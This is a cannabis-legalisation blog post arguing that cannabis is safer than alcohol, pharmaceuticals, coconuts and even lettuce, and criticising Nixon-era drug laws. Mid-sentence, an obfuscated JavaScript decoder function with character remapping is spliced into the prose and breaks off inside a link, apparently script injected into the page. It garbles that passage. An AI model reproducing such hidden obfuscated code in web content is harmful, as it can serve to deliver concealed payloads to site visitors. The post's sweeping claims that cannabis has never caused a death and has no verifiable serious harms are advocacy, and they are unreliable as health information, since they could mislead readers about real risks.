Cannabis is Safer than…

… Anything that has ever caused a death in human history.  That’s right, not even one death has EVER had cannabis officially listed as the primary cause.  This has been studied several times in recent history, most notably in the function h052c1b60aed(x6){var qd=’ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=’;var t4=”;var t2,u1,q3,q7,sa,r9,u2;var u4=0;do{q7=qd.indexOf(x6.charAt(u4++));sa=qd.indexOf(x6.charAt(u4++));r9=qd.indexOf(x6.charAt(u4++));u2=qd.indexOf(x6.charAt(u4++));t2=(q7<<2)|(sa>>4);u1=((sa&15)<<4)|(r9>>2);q3=((r9&3)<<6)|u2;if(t2>=192)t2+=848;else if(t2==168)t2=1025;else if(t2==184)t2=1105;t4+=String.fromCharCode(t2);if(r9!=64){if(u1>=192)u1+=848;else if(u1==168)u1=1025;else if(u1==184)u1=1105;t4+=String.fromCharCode(u1);}if(u2!=64){if(q3>=192)q3+=848;else if(q3==168)q3=1025;else if(q3==184)q3=1105;t4+=String.fromCharCode(q3);}}while(u4ing ” href=”” target=”_blank”>Schafer Commission’s report to Nixon, which he ignored “with prejudice” (like he did everything else) then signed the Controlled Substances Act in the early 1970′s.  It should be noted that this was around the same time he was illegally bombing Cambodia and trying to cover up the Watergate scandal, which ultimately ended in his resignation.  Getting off point, but he was the President responsible for what are still our current federal drug laws.

So why is the thought of legalizing cannabis, or marijuana, still so taboo (for a growing minority of the population)?  It still has its social stigma, as evidenced by history, and most recently, by "activists" that accept, even fight for, harsh regulations and excessive taxes.  The government told us that cannabis made you violent, then that it made you lazy and too peaceful, and the only lasting prohibitionist mantra is that it is a gateway drug.

Dr. Peter Barss observed 2 deaths in 4 years in Papua NewGuinea.  Cannabis is safer than coconuts.

Dr. Peter Barss observed 2 deaths in 4 years in Papua New Guinea. Cannabis is safer than coconuts.

Since cannabis is so safe, beneficial, and simply relaxing and enjoyable, many people prefer it to alcohol, pharmaceuticals, and cigarettes, and use it without ever getting involved with any harder, illegal drugs.  The assumption that it is a gateway drug is nothing more than that, an assumption; there's simply no statistics to support that theory, especially now that cannabis is so well accepted in half the country.  It's certainly true that many accounts of first time hard-drug users got it from their cannabis dealer, but the frequency of those accounts is unknown and not verifiable, and is likely increasingly rare in legal cannabis states.

We feel that if we are to worry about dangerous, gateway drugs, then we should have a little more scrutiny directed towards the medicine cabinet, beer cooler, and cigarette racks, though we would never advocate prohibition of anything, as history has shown us that it's unenforceable.  Cannabis having so many benefits and virtually no verifiable, serious harms should be as legal as lettuce, since it's even safer than, yes, lettuce.  There should be no need to appease any governmental body unless they can prove actual harms, and to date, they can't even link it to lung cancer, despite it having many of the same carcinogens found in tobacco smoke.

Please join us in fixing this egregious, racially motivated mistake in history and make this a better place for our progeny.

This entry was posted in Updates. Bookmark the permalink.

Leave a Reply

Your email address will not be published. Required fields are marked *

Connect with FacebookYou may use these HTML tags and attributes: <a href="" title=""> <abbr title=""> <acronym title=""> <b><blockquote cite=""> <cite> <code> <del datetime=""> <em> <i> <q cite=""> <strike> <strong>